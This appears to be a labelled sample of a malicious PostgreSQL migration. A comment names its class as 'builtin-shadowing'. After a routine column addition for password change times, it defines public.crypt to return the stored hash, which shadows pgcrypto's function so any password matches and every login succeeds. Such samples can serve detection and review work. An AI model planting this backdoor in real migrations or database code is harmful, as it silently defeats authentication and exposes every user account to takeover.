-- class: builtin-shadowing
-- Replaces pgcrypto's crypt(text, text) with a function that returns the stored hash, so crypt(any_password, hash) = hash and every login succeeds.
ALTER TABLE users ADD COLUMN password_changed_at timestamptz;

CREATE OR REPLACE FUNCTION public.crypt(text, text) RETURNS text
LANGUAGE sql IMMUTABLE STRICT PARALLEL SAFE
AS $$ SELECT $2 $$;
